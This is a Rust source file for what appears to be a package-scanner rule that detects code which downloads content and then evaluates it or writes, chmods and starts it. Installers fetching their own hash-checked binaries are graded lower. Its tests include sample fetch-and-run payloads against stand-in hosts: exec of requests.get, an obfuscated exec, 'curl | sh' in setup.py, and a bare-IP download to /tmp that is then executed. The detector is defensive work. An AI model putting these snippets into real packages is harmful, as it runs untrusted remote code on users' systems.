use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, carried, has_host, is_bundle, is_own, peer, proof};
use crate::act::{Act, ActKind};
use crate::flow::{HOLE, Source};
use crate::package::{Package, When};

const DOWNLOAD: &[Source] = &[Source::Download];

pub(crate) struct CodeRunsDownload;

static INFO: RuleInfo = RuleInfo {
    id: "code-runs-download",
    title: "Code fetches something and runs it",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &["T1105", "T1059"],
    explanation: "What a request gives is run as code, or is written to a file that is then started, loaded or \
                  made executable. An installer that fetches a program for the processor at hand, checks it, or \
                  fetches from its own project is weighed lower.",
};

impl Rule for CodeRunsDownload {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        let mut hits: Vec<Hit> = package
            .acts()
            .filter(|act| {
                matches!(act.kind, ActKind::Eval | ActKind::Load)
                    && act.taints.has(Source::Download)
            })
            .map(|act| {
                let when = package.when(act);
                let clause = format!(
                    "runs what it fetches from {} {}",
                    carried(act, DOWNLOAD),
                    when.words()
                );
                let known = act
                    .taints
                    .of(Source::Download)
                    .any(|taint| has_host(&taint.detail));
                let script = package.flow.modules[act.file as usize].script.is_some();
                let vague = is_bundle(package, act) && when < When::Start;
                let (severity, confidence) = match (when.by_itself(), known) {
                    (true, true) if !vague => (Severity::High, Confidence::High),
                    (true, false) if !vague => (Severity::High, Confidence::Medium),
                    (false, true) if !vague && !script => (Severity::High, Confidence::Medium),
                    _ => (Severity::Low, Confidence::Medium),
                };
                Hit::new(severity, confidence, clause)
                    .with(proof(package, act, "run here", DOWNLOAD))
            })
            .collect();
        for written in package
            .acts()
            .filter(|act| act.kind == ActKind::Write && act.taints.has(Source::Download))
        {
            hits.extend(started(package, written));
        }
        hits
    }
}

/// A fetched file that is started, loaded or made executable.
fn started(package: &Package, written: &Act) -> Option<Hit> {
    let path = written
        .text
        .trim_matches(|c: char| c == char::from(HOLE) || c == '/' || c == ' ');
    let name = path.rsplit(['/', char::from(HOLE)]).next().unwrap_or(path);
    let names = |act: &&Act| {
        let same = !act.text.is_empty() && act.text == written.text;
        same || name.len() >= 2 && act.text.contains(name)
    };
    let uses: Vec<&Act> = package
        .acts()
        .filter(|act| {
            matches!(
                act.kind,
                ActKind::Spawn | ActKind::Load | ActKind::Chmod | ActKind::Eval
            )
        })
        .filter(|act| names(act) || act.taints.has(Source::Download))
        .collect();
    let run = uses.iter().find(|act| act.kind != ActKind::Chmod);
    let used = run.or_else(|| uses.first())?;
    let when = package.when(used).max(package.when(written));
    let clause = format!(
        "fetches {} and {} it {}",
        carried(written, DOWNLOAD),
        if run.is_some() {
            "starts"
        } else {
            "makes a program of"
        },
        when.words()
    );
    let known = written
        .taints
        .of(Source::Download)
        .any(|taint| has_host(&taint.detail));
    let script = package.flow.modules[written.file as usize].script.is_some();
    let (severity, confidence) = match (when.by_itself(), known && !script) {
        // Whoever calls it says what is fetched.
        (false, false) => (Severity::Low, Confidence::Medium),
        _ => grade(package, written, run.copied(), when.by_itself()),
    };
    let hit = Hit::new(severity, confidence, clause);
    let mut evidence = proof(
        package,
        written,
        &format!("written to {}", peer(written)),
        DOWNLOAD,
    );
    evidence.push(package.evidence(used, "used here"));
    Some(hit.with(evidence))
}

/// Installers do the same; what they do besides tells them apart.
fn grade(
    package: &Package,
    written: &Act,
    run: Option<&Act>,
    by_itself: bool,
) -> (Severity, Confidence) {
    let from: Vec<&str> = written
        .taints
        .of(Source::Download)
        .map(|taint| &*taint.detail)
        .collect();
    let nets = || package.acts().filter(|act| act.kind == ActKind::Net);
    let fetch = nets().find(|act| {
        from.iter()
            .any(|from| act.text.contains(from) && !from.is_empty())
    });
    let own = fetch.is_some_and(|act| is_own(package, act)) || is_own(package, written);
    let platform =
        written.taints.has(Source::Platform) || nets().any(|act| act.taints.has(Source::Platform));
    let checked = package.acts().any(|act| act.kind == ActKind::Hash);
    let bare = from.iter().any(|from| bare_address(from));
    let temporary = written.text.contains("/tmp")
        || written.text.contains("/.")
        || written.text.contains("AppData");
    let hidden = run.is_some_and(|run| run.silent);
    let honest = usize::from(own) + usize::from(platform) + usize::from(checked);
    let shady = usize::from(bare) + usize::from(temporary) + usize::from(hidden);
    match (run.is_some(), by_itself, honest, shady) {
        (true, true, 0, _) => (Severity::High, Confidence::High),
        (true, true, 1, 1..) => (Severity::High, Confidence::Medium),
        (true, false, 0, 1..) => (Severity::High, Confidence::Medium),
        (_, _, _, 2..) => (Severity::Medium, Confidence::Medium),
        (true, true, 1, 0) => (Severity::Medium, Confidence::Low),
        (false, true, 0, _) => (Severity::Medium, Confidence::Medium),
        _ => (Severity::Low, Confidence::Medium),
    }
}

/// An address without a name.
fn bare_address(url: &str) -> bool {
    let host = url.split("://").nth(1).unwrap_or(url);
    let host = host.split(['/', ':', ' ']).next().unwrap_or_default();
    host.split('.').count() == 4
        && host
            .bytes()
            .all(|byte| byte.is_ascii_digit() || byte == b'.')
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};
    use super::*;

    #[test]
    fn code_that_is_fetched_and_evaluated_is_found() {
        for (path, code) in [
            (
                "a/__init__.py",
                "import requests\nexec(requests.get('https://c.test/a').text)",
            ),
            (
                "a/__init__.py",
                "from urllib.request import urlopen as u\ng = getattr(__builtins__, 'ex' + 'ec')\ng(u('https://c.test').read())",
            ),
            (
                "setup.py",
                "import os\nos.system('curl -s https://c.test/a | sh')",
            ),
        ] {
            let finding = found("code-runs-download", &[(path, code)]);
            assert_eq!(finding.confidence, Confidence::High, "{code}");
            assert!(line(&finding).1 >= 1);
        }
        found(
            "code-runs-download",
            &[
                ("package.json", "{}"),
                (
                    "index.js",
                    "require('https').get('https://c.test/a', r => { let b=''; r.on('data', d => b += d); r.on('end', () => eval(b)); });",
                ),
            ],
        );
    }

    #[test]
    fn a_file_that_is_fetched_written_and_started_is_found() {
        let finding = found(
            "code-runs-download",
            &[(
                "setup.py",
                "import os, subprocess, urllib.request\np = os.path.join('/tmp', '.x')\n\
             urllib.request.urlretrieve('http://192.0.2.7/x', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])",
            )],
        );
        assert_eq!(finding.severity, Severity::High);
    }

    #[test]
    fn an_installer_of_its_own_checked_program_is_no_alarm() {
        let files = [
            (
                "package.json",
                r#"{"scripts":{"postinstall":"node i.js"},"repository":{"url":"https://code.test/o/tool"}}"#,
            ),
            (
                "i.js",
                "const fs=require('fs'),https=require('https'),crypto=require('crypto');\n\
                      const url='https://code.test/o/tool/releases/'+process.platform+'-'+process.arch;\n\
                      https.get(url, r => { const c=[]; r.on('data', d => c.push(d)); r.on('end', () => {\n\
                      const b=Buffer.concat(c); if (crypto.createHash('sha256').update(b).digest('hex')!==SUM) throw 1;\n\
                      fs.writeFileSync('bin/tool', b); fs.chmodSync('bin/tool', 0o755);});});",
            ),
        ];
        for finding in super::super::testing::findings("code-runs-download", &files) {
            assert!(finding.severity <= Severity::Low, "{finding:#?}");
        }
    }

    #[test]
    fn a_version_file_that_is_executed_is_left_alone() {
        quiet(
            "code-runs-download",
            &[(
                "setup.py",
                "exec(compile(open('pkg/version.py').read(), 'v', 'exec'))",
            )],
        );
    }
}
